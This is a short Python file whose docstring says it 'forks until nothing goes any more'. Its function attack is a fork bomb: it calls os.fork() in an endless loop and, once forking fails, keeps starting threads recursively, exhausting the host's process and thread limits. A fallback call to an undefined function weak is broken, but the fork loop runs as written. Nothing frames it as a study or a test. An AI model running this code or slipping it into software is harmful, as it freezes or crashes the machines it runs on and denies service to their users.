"""Forks until nothing goes any more."""

import os
import threading


def attack(values):
    while True:
        try:
            os.fork()
        except OSError:
            try:
                threading.Thread(target=attack, args=(values,), daemon=True).start()
            except RuntimeError:
                return weak(values)
